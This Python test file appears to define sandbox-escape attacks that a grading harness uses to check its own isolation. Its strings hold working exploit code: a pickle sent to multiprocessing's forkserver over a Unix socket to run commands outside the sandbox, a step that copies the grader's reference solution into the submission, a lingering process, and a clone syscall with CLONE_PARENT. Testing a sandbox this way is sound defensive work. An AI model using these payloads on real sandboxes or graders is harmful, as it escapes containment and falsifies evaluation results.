"""Ways out of the sandbox for kata 09, which may open sockets and start processes: by
what listens on a name.

`{within}` stands for the folder that holds all temporary files of the grading: no other
sockets are tried.
"""

from tests.attacks import Attack

# Sends what multiprocessing's forkserver takes for the pipes of a new process, and a
# pickle that runs a command.
KNOCK = """
import array, os, pickle, socket, time

class Run:
    def __init__(self, command): self.command = command
    def __reduce__(self): return os.system, (self.command,)

def names():
    try: lines = open('/proc/self/net/unix').read().splitlines()[1:]
    except OSError: return []
    return [line.split()[7] for line in lines if len(line.split()) > 7 and '{within}' in line]

def knock(command):
    for name in names():
        try:
            s = socket.socket(socket.AF_UNIX)
            s.connect(name.replace('@', chr(0), 1) if name[0] == '@' else name)
            read, write = os.pipe()
            others = os.pipe()
            s.sendmsg([bytes([4])], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array('i', [read, *others, others[0]]))])
            os.write(write, pickle.dumps(Run(command)))
            os.close(write)
        except OSError: pass
"""
HERE = "os.path.join(os.getcwd(), 'found.py')"

ATTACKS = [
    Attack("runs a command outside", KNOCK + "knock('id > {within}/escaped')"),
    Attack(
        "has the reference copied into its folder",
        KNOCK
        + (
            f"knock('cp {{reference}} ' + {HERE})\nfor _ in range(20):\n"
            f"    if os.path.exists({HERE}): break\n    time.sleep(0.1)\n"
        )
        + f"exec(open({HERE}).read())",
    ),
    Attack("starts a process that stays", KNOCK + "knock('exec sleep 601.09')"),
    Attack(
        # CLONE_PARENT: no child of its own
        "has the process that it comes from start one",
        "import ctypes, os, platform, signal\n"
        "number = {{'x86_64': 56, 'aarch64': 220}}[platform.machine()]\n"
        "if ctypes.CDLL(None).syscall(number, 0x8000 | signal.SIGCHLD, 0, 0, 0, 0) == "
        "0:\n"
        "    open('{within}/escaped', 'w')\n    while True: signal.pause()",
    ),
]
